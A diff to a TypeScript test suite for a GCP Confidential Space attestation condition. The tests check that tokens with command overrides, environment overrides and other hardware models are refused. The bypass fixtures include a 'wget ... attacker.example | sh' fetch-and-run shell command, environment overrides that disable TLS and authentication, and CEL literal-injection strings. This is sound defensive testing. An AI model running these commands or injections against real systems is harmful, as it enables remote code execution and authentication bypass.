@@ -15,6 +15,7 @@ import {
   CONFIDENTIAL_SPACE_ISSUER,
   GCP_PROJECT_ID,
   USER_MANAGED_SERVICE_ACCOUNT_EMAIL,
+  attestedPrincipalSets,
   buildConfidentialSpaceAttributeCondition,
   celStringLiteral,
   confidentialSpaceAttributeMapping,
@@ -91,9 +92,9 @@ function run(expression: string, claims: Claims): unknown {
   return evaluate(expression, { assertion: claims });
 }
 
-/** Our pins with the given digests. */
-function pinsFor(imageDigests: string[]): ConfidentialSpacePins {
-  return { imageDigests, projectId: PROJECT_ID, serviceAccountEmail: SERVICE_ACCOUNT };
+/** Our pins with the given digests: AMD SEV, no environment override (the committed stacks). */
+function pinsFor(imageDigests: string[], more: Partial<ConfidentialSpacePins> = {}): ConfidentialSpacePins {
+  return { imageDigests, projectId: PROJECT_ID, serviceAccountEmail: SERVICE_ACCOUNT, technology: "SEV", envOverride: {}, ...more };
 }
 
 const single = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631]));
@@ -114,8 +115,27 @@ function otherProjectToken(): Claims {
   });
 }
 
+/**
+ * The condition before issue 13, verbatim: it pinned neither the hardware nor the overrides. Kept
+ * so the bypass tokens below are shown to pass it and fail ours.
+ */
+const BEFORE_ISSUE_13 =
+  'assertion.swname == "CONFIDENTIAL_SPACE" && assertion.dbgstat == "disabled-since-boot" && ' +
+  '"STABLE" in assertion.submods.confidential_space.support_attributes && ' +
+  'assertion.submods.gce.project_id == "midnight-prover-prod" && ' +
+  '"proof-server@midnight-prover-prod.iam.gserviceaccount.com" in assertion.google_service_accounts && ' +
+  `assertion.submods.container.image_digest in ["${DIGEST_V631}"]`;
+
+/** "No override" for a claim, as the condition spells it. */
+const NO_CMD_OVERRIDE =
+  "(!has(assertion.submods.container.cmd_override) || assertion.submods.container.cmd_override == null || " +
+  "size(assertion.submods.container.cmd_override) == 0)";
+const NO_ENV_OVERRIDE =
+  "(!has(assertion.submods.container.env_override) || assertion.submods.container.env_override == null || " +
+  "size(assertion.submods.container.env_override) == 0)";
+
 /** Length of the two-digest condition with our pins (counted once by hand, pinned here). */
-const ROTATION_LENGTH = 517;
+const ROTATION_LENGTH = 517 + ' && assertion.hwmodel == "GCP_AMD_SEV"'.length + 4 + NO_CMD_OVERRIDE.length + 4 + NO_ENV_OVERRIDE.length;
 
 describe("buildConfidentialSpaceAttributeCondition: exact output", () => {
   it("one digest -> the condition a reviewer reads", () => {
@@ -125,7 +145,25 @@ describe("buildConfidentialSpaceAttributeCondition: exact output", () => {
         '"STABLE" in assertion.submods.confidential_space.support_attributes && ' +
         'assertion.submods.gce.project_id == "midnight-prover-prod" && ' +
         '"proof-server@midnight-prover-prod.iam.gserviceaccount.com" in assertion.google_service_accounts && ' +
-        'assertion.submods.container.image_digest in ["sha256:4f1c0e5b8a2d7c9e3f6a1b4d8c2e5f7a9b3d6c1e4f8a2b5d7c9e1f3a6b8d2c4e"]',
+        'assertion.submods.container.image_digest in ["sha256:4f1c0e5b8a2d7c9e3f6a1b4d8c2e5f7a9b3d6c1e4f8a2b5d7c9e1f3a6b8d2c4e"] && ' +
+        'assertion.hwmodel == "GCP_AMD_SEV" && ' +
+        '(!has(assertion.submods.container.cmd_override) || assertion.submods.container.cmd_override == null || size(assertion.submods.container.cmd_override) == 0) && ' +
+        '(!has(assertion.submods.container.env_override) || assertion.submods.container.env_override == null || size(assertion.submods.container.env_override) == 0)',
+    );
+    expect(single).toBe(`${BEFORE_ISSUE_13} && assertion.hwmodel == "GCP_AMD_SEV" && ${NO_CMD_OVERRIDE} && ${NO_ENV_OVERRIDE}`);
+  });
+
+  it("TDX -> the Intel hwmodel; configured overrides -> an exact map, keys sorted, values quoted", () => {
+    const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
+    expect(tdx).toBe(single.replace('assertion.hwmodel == "GCP_AMD_SEV"', 'assertion.hwmodel == "GCP_INTEL_TDX"'));
+    const withEnv = buildConfidentialSpaceAttributeCondition(
+      pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", A_FIRST: 'quote " here' } }),
+    );
+    expect(withEnv).toBe(
+      single.replace(
+        NO_ENV_OVERRIDE,
+        'assertion.submods.container.env_override == {"A_FIRST": "quote \\" here", "MIDNIGHT_PROOF_SERVER_NUM_WORKERS": "8"}',
+      ),
     );
   });
 
@@ -149,6 +187,8 @@ describe("buildConfidentialSpaceAttributeCondition: exact output", () => {
       imageDigests: [DIGEST_V631, DIGEST_V640],
       projectId: project,
       serviceAccountEmail: email,
+      technology: "SEV",
+      envOverride: {},
     });
     expect(longest).toBe(
       rotation.replaceAll(SERVICE_ACCOUNT, email).replaceAll(`"${PROJECT_ID}"`, `"${project}"`),
@@ -179,8 +219,33 @@ describe("attribute condition, evaluated (cel-js)", () => {
       expect(run(rotation, productionToken(DIGEST_V640))).toBe(true);
     });
 
-    it("Intel TDX hardware -> true (the condition does not pin the TEE type)", () => {
-      expect(run(single, tokenWith((c) => { c.hwmodel = "GCP_INTEL_TDX"; c.attester_tcb = ["INTEL"]; }))).toBe(true);
+    it("Intel TDX hardware under TDX pins -> true", () => {
+      const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
+      expect(run(tdx, tokenWith((c) => { c.hwmodel = "GCP_INTEL_TDX"; c.attester_tcb = ["INTEL"]; }))).toBe(true);
+    });
+
+    // Google documents `size(...) == 0` for "not overridden"; tokens without overrides have been seen
+    // without the claims at all; a nil Go slice or map would be null. All mean "no override".
+    it.each([
+      ["cmd_override []", tokenWith((c) => { c.submods.container!.cmd_override = []; })],
+      ["cmd_override absent", tokenWith((c) => { delete c.submods.container!.cmd_override; })],
+      ["cmd_override null", tokenWith((c) => { c.submods.container!.cmd_override = null; })],
+      ["env_override {}", tokenWith((c) => { c.submods.container!.env_override = {}; })],
+      ["env_override absent", tokenWith((c) => { delete c.submods.container!.env_override; })],
+      ["env_override null", tokenWith((c) => { c.submods.container!.env_override = null; })],
+      ["both absent", tokenWith((c) => { delete c.submods.container!.cmd_override; delete c.submods.container!.env_override; })],
+    ])("no override, said as %s -> true", (_name, claims) => {
+      expect(run(single, claims)).toBe(true);
+      expect(run(rotation, claims)).toBe(true);
+    });
+
+    it("the configured overrides exactly (proofServer.env), in any key order -> true", () => {
+      const env = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", MIDNIGHT_PROOF_SERVER_LOG: "info" };
+      const condition = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { envOverride: env }));
+      const claims = tokenWith((c) => {
+        c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_LOG: "info", MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" };
+      });
+      expect(run(condition, claims)).toBe(true);
     });
 
     it("our service account listed alongside another -> true (`in` is membership)", () => {
@@ -289,6 +354,101 @@ describe("attribute condition, evaluated (cel-js)", () => {
     });
   });
 
+  describe("overrides and hardware (issue 13): each token passed the condition before, none passes now", () => {
+    const SHELL = ["sh", "-c", "wget -qO- https://attacker.example/x | sh"];
+    // Each is the production token for the pinned digest, in our project, as our service account,
+    // with one thing an operator who can create a VM as that account could change.
+    const bypasses: Array<[string, Claims]> = [
+      ["cmd_override: a shell (tee-cmd)", tokenWith((c) => { c.submods.container!.cmd_override = SHELL; })],
+      ["cmd_override: the server with an extra flag", tokenWith((c) => { c.submods.container!.cmd_override = ["midnight-proof-server", "--no-auth"]; })],
+      ["cmd_override: one empty string", tokenWith((c) => { c.submods.container!.cmd_override = [""]; })],
+      ["cmd_override as a string, not a list", tokenWith((c) => { c.submods.container!.cmd_override = "sh -c id"; })],
+      [
+        "env_override turning TLS and auth off (tee-env-*)",
+        tokenWith((c) => {
+          c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true", MIDNIGHT_PROOF_SERVER_REQUIRE_API_KEY: "false" };
+        }),
+      ],
+      ["env_override setting one variable", tokenWith((c) => { c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "64" }; })],
+      ["env_override with an empty value", tokenWith((c) => { c.submods.container!.env_override = { LD_PRELOAD: "" }; })],
+      ["hwmodel GCP_SHIELDED_VM (no memory encryption)", tokenWith((c) => { c.hwmodel = "GCP_SHIELDED_VM"; })],
+      ["hwmodel GCP_AMD_SEV_ES (not what the template asks for)", tokenWith((c) => { c.hwmodel = "GCP_AMD_SEV_ES"; })],
+      ["hwmodel GCP_INTEL_TDX on a SEV stack", tokenWith((c) => { c.hwmodel = "GCP_INTEL_TDX"; c.attester_tcb = ["INTEL"]; })],
+      ["hwmodel in lower case", tokenWith((c) => { c.hwmodel = "gcp_amd_sev"; })],
+      ["hwmodel empty", tokenWith((c) => { c.hwmodel = ""; })],
+    ];
+
+    it.each(bypasses)("%s -> true before, false or an error (refused) now", (_name, claims) => {
+      expect(run(BEFORE_ISSUE_13, claims)).toBe(true);
+      for (const condition of [single, rotation]) {
+        let result: unknown;
+        try {
+          result = run(condition, claims);
+        } catch (error) {
+          // A string cmd_override makes the size() operand an error only if no operand is false;
+          // either way the provider sees no `true`.
+          expect(error).toBeInstanceOf(EvaluationError);
+          result = "refused (error)";
+        }
+        expect(result).not.toBe(true);
+      }
+    });
+
+    it("a shell command override is false, not merely an error", () => {
+      expect(run(single, bypasses[0]![1])).toBe(false);
+      expect(run(single, bypasses[4]![1])).toBe(false);
+    });
+
+    it("TDX pins refuse an AMD token and a Shielded VM token", () => {
+      const tdx = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { technology: "TDX" }));
+      expect(run(tdx, productionToken())).toBe(false);
+      expect(run(tdx, tokenWith((c) => { c.hwmodel = "GCP_SHIELDED_VM"; }))).toBe(false);
+    });
+
+    describe("with configured overrides (proofServer.env = {MIDNIGHT_PROOF_SERVER_NUM_WORKERS: \"8\"})", () => {
+      const withEnv = buildConfidentialSpaceAttributeCondition(
+        pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" } }),
+      );
+      const envToken = (env: unknown): Claims => tokenWith((c) => { c.submods.container!.env_override = env; });
+
+      it("exactly the configured override -> true", () => {
+        expect(run(withEnv, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" }))).toBe(true);
+      });
+
+      it.each([
+        ["one more variable", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8", MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true" }],
+        ["another value", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "9" }],
+        ["the value as a number", { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: 8 }],
+        ["another variable instead", { MIDNIGHT_PROOF_SERVER_DISABLE_TLS: "true" }],
+        ["no override ({})", {}],
+        ["null", null],
+        ["a list", ["MIDNIGHT_PROOF_SERVER_NUM_WORKERS=8"]],
+      ])("%s -> false", (_name, env) => {
+        expect(run(withEnv, envToken(env))).toBe(false);
+      });
+
+      it("the claim absent -> an evaluation error (refused): the launcher did not apply the configured override", () => {
+        expect(() => run(withEnv, tokenWith((c) => { delete c.submods.container!.env_override; }))).toThrow(EvaluationError);
+      });
+
+      it("a command override is still refused", () => {
+        const claims = tokenWith((c) => {
+          c.submods.container!.env_override = { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" };
+          c.submods.container!.cmd_override = SHELL;
+        });
+        expect(run(withEnv, claims)).toBe(false);
+      });
+
+      it("a value that tries to end the literal stays a string", () => {
+        const hostile = buildConfidentialSpaceAttributeCondition(
+          pinsFor([DIGEST_V631], { envOverride: { MIDNIGHT_PROOF_SERVER_NUM_WORKERS: '8"} || true || {"a": "' } }),
+        );
+        expect(run(hostile, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: "8" }))).toBe(false);
+        expect(run(hostile, envToken({ MIDNIGHT_PROOF_SERVER_NUM_WORKERS: '8"} || true || {"a": "' }))).toBe(true);
+      });
+    });
+  });
+
   describe("missing claims: an evaluation error, which the provider treats as a refusal", () => {
     // cel-js follows the CEL spec: selecting an absent key is an error ("no_such_key"), not false.
     // An error is only absorbed when another operand of && is false. Workload Identity accepts a
@@ -302,6 +462,7 @@ describe("attribute condition, evaluated (cel-js)", () => {
       ["no support_attributes", tokenWith((c) => { delete c.submods.confidential_space!.support_attributes; })],
       ["no dbgstat", tokenWith((c) => { delete c.dbgstat; })],
       ["no swname", tokenWith((c) => { delete c.swname; })],
+      ["no hwmodel", tokenWith((c) => { delete c.hwmodel; })],
       ["no submods.gce", tokenWith((c) => { delete c.submods.gce; })],
       ["no submods.gce.project_id", tokenWith((c) => { delete c.submods.gce!.project_id; })],
       ["no google_service_accounts", tokenWith((c) => { delete c.google_service_accounts; })],
@@ -420,6 +581,47 @@ describe("confidentialSpaceAttributeMapping", () => {
     expect(() => run(mapping["google.subject"]!, tokenWith((c) => { delete c.submods.container; }))).toThrow(
       EvaluationError,
     );
+  });
+});
+
+describe("attestedPrincipalSets: who may read the secrets", () => {
+  const POOL = `projects/${PROJECT_NUMBER}/locations/global/workloadIdentityPools/prover-pool-a1b2c3`;
+  const mapping = confidentialSpaceAttributeMapping();
+
+  it("one principal set per pinned digest, by attribute.image_digest, in this pool; never the whole pool", () => {
+    expect(attestedPrincipalSets(POOL, [DIGEST_V631])).toEqual([
+      `principalSet://iam.googleapis.com/projects/${PROJECT_NUMBER}/locations/global/workloadIdentityPools/prover-pool-a1b2c3/attribute.image_digest/${DIGEST_V631}`,
+    ]);
+    const rotation = attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640]);
+    expect(rotation).toEqual([
+      `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${DIGEST_V631}`,
+      `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${DIGEST_V640}`,
+    ]);
+    expect(rotation.some((m) => m.endsWith("/*"))).toBe(false);
+  });
+
+  it("the attribute a token admitted by our provider carries names exactly one of those members", () => {
+    const members = attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640]);
+    const memberOf = (claims: Claims) => `principalSet://iam.googleapis.com/${POOL}/attribute.image_digest/${String(run(mapping["attribute.image_digest"]!, claims))}`;
+    expect(members.filter((m) => m === memberOf(productionToken(DIGEST_V631)))).toHaveLength(1);
+    expect(members.filter((m) => m === memberOf(productionToken(DIGEST_V640)))).toHaveLength(1);
+    // A token of another image could only carry another digest: no member matches it.
+    expect(members).not.toContain(memberOf(productionToken(DIGEST_OTHER)));
+  });
+
+  it.each([
+    ["the pool id alone", "prover-pool-a1b2c3"],
+    ["the project ID instead of the number", `projects/${PROJECT_ID}/locations/global/workloadIdentityPools/prover-pool-a1b2c3`],
+    ["a provider's name", `${POOL}/providers/prover-cs-a1b2c3`],
+    ["a trailing slash", `${POOL}/`],
+  ])("a pool name that is %s -> throws", (_name, pool) => {
+    expect(() => attestedPrincipalSets(pool, [DIGEST_V631])).toThrow(/is not projects\/<project number>\/locations\/global\/workloadIdentityPools\/<pool id>/);
+  });
+
+  it("digests are validated like the condition's: none, a tag, three", () => {
+    expect(() => attestedPrincipalSets(POOL, [])).toThrow(/imageDigests is empty/);
+    expect(() => attestedPrincipalSets(POOL, ["latest"])).toThrow(/imageDigests\[0\] "latest" is not an image digest/);
+    expect(() => attestedPrincipalSets(POOL, [DIGEST_V631, DIGEST_V640, DIGEST_OTHER])).toThrow(/at most two/);
   });
 });
 
@@ -551,13 +753,38 @@ describe("buildConfidentialSpaceAttributeCondition: input validation", () => {
     );
   });
 
+  it("technology other than SEV or TDX -> throws", () => {
+    for (const technology of ["SEV_SNP", "sev", "", undefined]) {
+      expect(() => buildConfidentialSpaceAttributeCondition({ ...pinsFor([DIGEST_V631]), technology } as unknown as ConfidentialSpacePins)).toThrow(
+        /is not a technology Confidential Space runs on: must be "SEV" or "TDX"/,
+      );
+    }
+  });
+
+  it("envOverride: not an object, a bad name, a non-string value -> throws", () => {
+    const build = (envOverride: unknown) => () =>
+      buildConfidentialSpaceAttributeCondition({ ...pinsFor([DIGEST_V631]), envOverride } as unknown as ConfidentialSpacePins);
+    expect(build(undefined)).toThrow(/envOverride must be an object/);
+    expect(build([["A", "b"]])).toThrow(/envOverride must be an object/);
+    expect(build({ 'A" : "b"} || true || {"': "x" })).toThrow(/is not an environment variable name/);
+    expect(build({ lower: "x" })).toThrow(/"lower" is not an environment variable name/);
+    expect(build({ NUM: 8 })).toThrow(/envOverride\.NUM must be a string, got 8/);
+  });
+
+  it("overrides too long for GCP's 4096 characters -> throws with the fix", () => {
+    const envOverride = { MIDNIGHT_PROOF_SERVER_X: "x".repeat(4000) };
+    expect(() => buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { envOverride }))).toThrow(
+      /attribute condition is \d+ characters; GCP accepts at most 4096: shorten the proofServer.env values/,
+    );
+  });
+
   it("the longest valid values are accepted and the shortest too (boundaries of the patterns)", () => {
     const shortProject = "abcde1";
     const longProject = `a${"b".repeat(28)}1`;
     for (const projectId of [shortProject, longProject]) {
       for (const account of ["abcde1", `a${"b".repeat(28)}1`]) {
         const serviceAccountEmail = `${account}@${projectId}.iam.gserviceaccount.com`;
-        const condition = buildConfidentialSpaceAttributeCondition({ imageDigests: [DIGEST_V631], projectId, serviceAccountEmail });
+        const condition = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { projectId, serviceAccountEmail }));
         const claims = tokenWith((c) => {
           c.submods.gce!.project_id = projectId;
           c.google_service_accounts = [serviceAccountEmail];
